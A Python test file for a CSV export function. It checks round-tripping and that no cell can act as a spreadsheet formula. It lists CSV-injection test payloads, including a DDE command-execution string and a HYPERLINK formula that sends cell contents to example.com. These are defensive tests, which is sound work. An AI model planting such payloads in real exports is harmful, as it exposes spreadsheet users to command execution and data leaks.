"""CSV: what is written reads back to the same values, and nothing in it is a formula."""

import csv
import io
import json
import re
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from functions.graphql.export.csv_text import BYTE_ORDER_MARK, csv_text
from functions.graphql.export.table import Column, Kind, Table

FORMULA = "=+\\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
ADDED = re.compile(rf"(?:\A|(?<=[;\t\r\n]))'(?=[\s'\ufeff]*[{FORMULA}])|\A'(?='*[\t\r\n])")
HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "\uff0d1",
    "\ufe6bx",
    " =1",
    "\ufeff=1",
    "'=1",
    "''=1",
    "'",
    "'\t",
    "a;=1",
    "a;' \t=1",
    ";;=",
    '=HYPERLINK("http://example.com?"&A1,"here")',
    "=cmd|' /C calc'!A0",
    'say "hi", then\r\n=1',
    "",
    " ",
    ",",
    '"',
    "\x00",
    "\u2028=",
    "Mütterchen",
    "名前",
    "1e5",
    "true",
    "-",
]

texts = (
    st.text() | st.sampled_from(HOSTILE) | st.text(st.sampled_from("=+-@'; \t\r\n,\"\uff41\uff1dx"))
)
numbers = st.integers(-(2**63), 2**63) | st.floats(allow_nan=False, allow_infinity=False)
lists = st.lists(texts | numbers | st.none() | st.booleans(), max_size=3)
values = st.none() | texts | numbers | st.booleans() | lists
names = st.from_regex(r"[A-Za-z_][A-Za-z0-9_.]{0,9}", fullmatch=True)


@st.composite
def tables(draw: st.DrawFn) -> Table:
    rows = draw(st.integers(0, 4))
    return Table(
        "view",
        [
            Column(name, Kind.TEXT, draw(st.lists(values, min_size=rows, max_size=rows)))
            for name in draw(st.lists(names, min_size=1, max_size=4, unique=True))
        ],
    )


def table(*cells: object) -> Table:
    return Table("view", [Column("cell", Kind.TEXT, list(cells))])


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def expected(value: Any) -> str:  # noqa: ANN401 - whatever a cell holds
    """What a reader finds, once the apostrophes are taken away."""
    if value is None:
        return ""
    if isinstance(value, str):
        return value
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


@given(tables(), st.booleans())
def test_what_is_written_reads_back(table: Table, mark: bool) -> None:  # noqa: FBT001
    text = csv_text(table, byte_order_mark=mark)
    assert text.startswith(BYTE_ORDER_MARK) == mark
    header, *rows = read(text.removeprefix(BYTE_ORDER_MARK))
    assert header == [column.name for column in table.columns]
    found = [[ADDED.sub("", cell) for cell in row] for row in rows]
    assert found == [[expected(value) for value in row] for row in table.rows()]


@given(texts)
@example("=1")
def test_no_text_is_a_formula_wherever_a_spreadsheet_cuts_it(text: str) -> None:
    (_, (cell,)) = read(csv_text(table(text)))
    assert not cell.startswith(("\t", "\r", "\n"))
    for part in re.split(r"[;\t\r\n]", cell):
        assert not re.match(rf"[\s\ufeff]*[{FORMULA}]", part)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_come_back(text: str) -> None:
    (_, (cell,)) = read(csv_text(table(text)))
    assert ADDED.sub("", cell) == text


@pytest.mark.parametrize("value", [-3, -0.5, 1e-9, -(2**62)])
def test_a_negative_number_stays_a_number(value: float) -> None:
    (_, (cell,)) = read(csv_text(table(value)))
    assert type(value)(cell) == value


def test_the_text_of_rfc_4180() -> None:
    columns = [
        Column("userId", Kind.TEXT, ["a,b", 'x"y', "-1", ""]),
        Column("range.from", Kind.WHOLE, [1, -1, None, 0]),
        Column("hasUsed", Kind.LIST, [[True, None], [], None, ["ü"]]),
    ]
    assert csv_text(Table("view", columns)) == (
        "userId,range.from,hasUsed\r\n"
        '"a,b",1,"[true,null]"\r\n'
        '"x""y",-1,[]\r\n'
        "'-1,,\r\n"
        '"",0,"[""ü""]"\r\n'
    )


def test_a_table_without_rows_has_its_header() -> None:
    assert csv_text(table()) == "cell\r\n"


def test_a_row_of_one_null_is_a_row() -> None:
    assert read(csv_text(table(None, None))) == [["cell"], [""], [""]]


def test_half_a_surrogate_pair_can_be_encoded() -> None:
    assert csv_text(table("a\ud800")).encode() == "cell\r\na\ufffd\r\n".encode()
